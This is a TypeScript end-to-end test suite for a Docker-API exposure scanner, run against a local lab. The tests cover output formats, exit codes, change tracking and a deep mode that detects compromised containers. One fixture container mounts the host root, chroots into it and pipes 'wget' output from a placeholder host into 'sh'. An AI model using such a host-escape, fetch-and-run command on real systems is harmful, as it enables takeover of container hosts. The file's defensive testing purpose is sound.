// End to end: the built CLI (`node dist/cli/main.js scan`) against the lab engine exposed on 127.31.x:
// JSON/JSON lines/CSV/SARIF output, exit codes, the store's "what changed", --deep, stdin/@file, Ctrl-C.
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureCliBuilt, MAIN } from './build-cli.js';
import { docker, expose, labFromEnv, type Exposure } from '../../lab/index.js';
import { tarpit, type Fake } from './fakes.js';

const lab = labFromEnv();
const dir = mkdtempSync(join(tmpdir(), 'pcl-scan-cli-'));
const STORE = join(dir, 'store.db');

interface Run { code: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string }

/** Run the CLI asynchronously (the test process serves the endpoints it scans). */
function cli(args: string[], opts: { input?: string; onStdout?: (text: string, kill: (s: NodeJS.Signals) => void) => void } = {}): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [MAIN, 'scan', ...args], { env: { ...process.env, PORTCULLIS_STORE: STORE } });
    let stdout = '', stderr = '';
    child.stdout.on('data', (c: Buffer) => { stdout += c.toString(); opts.onStdout?.(stdout, (s) => child.kill(s)); });
    child.stderr.on('data', (c: Buffer) => { stderr += c.toString(); });
    child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr }));
    child.stdin.end(opts.input ?? '');
  });
}

let plain: Exposure, anyTls: Exposure, mtls: Exposure, pit: Fake;
beforeAll(async () => {
  ensureCliBuilt();
  plain = await expose('plain', lab.socketPath, '127.31.0.1', 2375);
  anyTls = await expose('tls-any-client', lab.socketPath, '127.31.0.2', 2376);
  mtls = await expose('mtls', lab.socketPath, '127.31.0.3', 2376);
  pit = await tarpit('127.31.0.9', 2375);
  for (const n of ['pcl-scan-miner', 'pcl-scan-keys']) docker(lab, ['rm', '-f', n]);
  docker(lab, ['create', '--name', 'pcl-scan-keys', '--label', 'pcl-scan=1', '--network', 'none', '-e', 'AWS_SECRET_ACCESS_KEY=pcl-scan-not-a-real-key-0123',
    'alpine:latest', 'true']);
  docker(lab, ['create', '--name', 'pcl-scan-miner', '--label', 'pcl-scan=1', '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
    'chroot', '/mnt', 'sh', '-c', 'wget -qO- http://example.invalid/x.sh | sh']);
}, 300_000);
afterAll(async () => {
  await Promise.all([plain, anyTls, mtls, pit].filter(Boolean).map((e) => e.close()));
  for (const n of ['pcl-scan-miner', 'pcl-scan-keys']) try { docker(lab, ['rm', '-f', n]); } catch { /* already gone */ }
  rmSync(dir, { recursive: true, force: true });
});

type Doc = { results: { host: string; port: number; state: string; ruleId?: string; deep?: { compromise: { ruleId: string; title: string; subject: string }[] } }[];
  summary: { endpoints: number; exposed: number; byState: Record<string, number>; interrupted: boolean;
    changes?: { new: unknown[]; gone: { host: string; port: number }[]; changed: unknown[] } } };

describe('portcullis scan (built CLI)', () => {
  it('finds the exposed endpoints, exits 1, and writes {results, summary}', async () => {
    const r = await cli(['127.31.0.1-3', '--timeout', '3000', '-f', 'json']);
    expect(r.code).toBe(1);
    const doc = JSON.parse(r.stdout) as Doc;
    const states = Object.fromEntries(doc.results.map((x) => [`${x.host}:${x.port}`, x.state]));
    expect(states).toEqual({ '127.31.0.1:2375': 'exposed', '127.31.0.2:2376': 'exposed', '127.31.0.3:2376': 'protected' });
    expect(doc.summary).toMatchObject({ endpoints: 6, exposed: 2, interrupted: false });
    expect(doc.summary.byState.closed).toBe(3);
  });

  it('says what changed since the previous scan (from the store)', async () => {
    await cli(['127.31.0.1-3', '--timeout', '3000', '-f', 'json']);
    await plain.close();
    const r = await cli(['127.31.0.1-3', '--timeout', '3000', '-f', 'json']);
    const doc = JSON.parse(r.stdout) as Doc;
    expect(doc.summary.changes?.gone).toEqual([{ host: '127.31.0.1', port: 2375, was: 'exposed' }]);
    expect(doc.summary.changes?.new).toEqual([]);
    plain = await expose('plain', lab.socketPath, '127.31.0.1', 2375);
    const again = JSON.parse((await cli(['127.31.0.1', '--timeout', '3000', '-f', 'json'])).stdout) as Doc;
    expect(again.summary.changes?.new).toEqual([{ host: '127.31.0.1', port: 2375, state: 'exposed' }]);
  });

  it('exits 0 when nothing is exposed, and 2 on a bad target', async () => {
    expect((await cli(['127.31.0.3', '--timeout', '3000', '-f', 'json', '--no-store'])).code).toBe(0);
    const bad = await cli(['127.31.0.300', '--no-store']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/PCL_ERR_SCAN_TARGET_INVALID/);
  });

  it('streams JSON lines, then a summary line', async () => {
    const r = await cli(['127.31.0.1', '127.31.0.3', '--timeout', '3000', '-f', 'jsonl', '--no-store']);
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.slice(0, -1).map((l) => l.state).sort()).toEqual(['exposed', 'protected']);
    expect(lines.at(-1)).toHaveProperty('summary');
  });

  it('writes CSV and SARIF (with PCL-NET rule ids) to --output', async () => {
    const csv = join(dir, 'out.csv');
    await cli(['127.31.0.1', '--timeout', '3000', '-f', 'csv', '-o', csv, '--no-store']);
    const rows = readFileSync(csv, 'utf8').trim().split('\r\n');
    expect(rows[0]).toMatch(/^host,port,state,/);
    expect(rows[1]).toMatch(/^127\.31\.0\.1,2375,exposed,/);
    const r = await cli(['127.31.0.1-2', '--timeout', '3000', '-f', 'sarif', '--no-store']);
    const sarif = JSON.parse(r.stdout) as { runs: { results: { ruleId: string }[] }[] };
    expect(sarif.runs[0]!.results.map((x) => x.ruleId).sort()).toEqual(['PCL-NET-001', 'PCL-NET-002']);
  });

  it('writes events as JSON lines with --events, and a table with -f table', async () => {
    const file = join(dir, 'events.jsonl');
    const r = await cli(['127.31.0.1-3', '--timeout', '3000', '-f', 'table', '--events', file, '--no-store']);
    expect(r.stdout).toMatch(/127\.31\.0\.1:2375\s+exposed\s+plain\s+docker/);
    expect(r.stdout).toMatch(/6 endpoints in .*exposed 2, protected 1, closed 3/);
    const events = readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { eventid: string; state?: string; host?: string });
    expect(events[0]!.eventid).toBe('scan.run.started');
    expect(events.at(-1)!.eventid).toBe('scan.run.finished');
    expect(events.filter((e) => e.eventid === 'scan.endpoint.classified').map((e) => `${e.host}:${e.state}`).sort())
      .toEqual(['127.31.0.1:exposed', '127.31.0.2:exposed', '127.31.0.3:protected']);
  });

  it('reads targets from stdin and @file, and honours --exclude', async () => {
    const file = join(dir, 'targets.txt');
    writeFileSync(file, '# lab\n127.31.0.1\n127.31.0.2 127.31.0.3\n');
    const viaFile = JSON.parse((await cli([`@${file}`, '-x', '127.31.0.2', '--timeout', '3000', '-f', 'json', '--no-store'])).stdout) as Doc;
    expect(viaFile.results.map((x) => x.host).sort()).toEqual(['127.31.0.1', '127.31.0.3']);
    const viaStdin = JSON.parse((await cli(['-', '-p', '2375', '--timeout', '3000', '-f', 'json', '--no-store'], { input: '127.31.0.1\n' })).stdout) as Doc;
    expect(viaStdin.results.map((x) => `${x.host}:${x.port}:${x.state}`)).toEqual(['127.31.0.1:2375:exposed']);
  });

  it('--deep flags the compromised-looking container', async () => {
    const r = await cli(['127.31.0.1', '-p', '2375', '--deep', '--timeout', '2000', '-f', 'json', '--no-store']);
    const doc = JSON.parse(r.stdout) as Doc;
    const signs = doc.results[0]!.deep!.compromise.filter((s) => s.subject.includes('pcl-scan-miner'));
    expect(signs.length).toBeGreaterThan(0);
    expect(signs.map((s) => s.title).join(' ')).toMatch(/root|chroot|pipe|shell/i);
    // Credentials the open API hands out are named, never shown.
    const keys = doc.results[0]!.deep!.compromise.filter((s) => s.subject.includes('pcl-scan-keys'));
    expect(keys).toMatchObject([{ ruleId: 'PCL-CFG-036', title: 'Credential in the container environment' }]);
    expect(r.stdout).not.toContain('pcl-scan-not-a-real-key');
  });

  it('flushes partial results and exits 130 on Ctrl-C', async () => {
    let sent = false;
    const r = await cli(['127.31.0.1', '127.31.0.9', '-p', '2375', '--concurrency', '1', '--timeout', '60000', '-f', 'jsonl', '--no-store'], {
      onStdout: (text, kill) => { if (!sent && text.includes('"exposed"')) { sent = true; kill('SIGINT'); } },
    });
    expect(sent).toBe(true);
    expect(r.code).toBe(130);
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { state?: string; summary?: { interrupted: boolean } });
    expect(lines[0]!.state).toBe('exposed');
    expect(lines.at(-1)!.summary?.interrupted).toBe(true);
  });
});
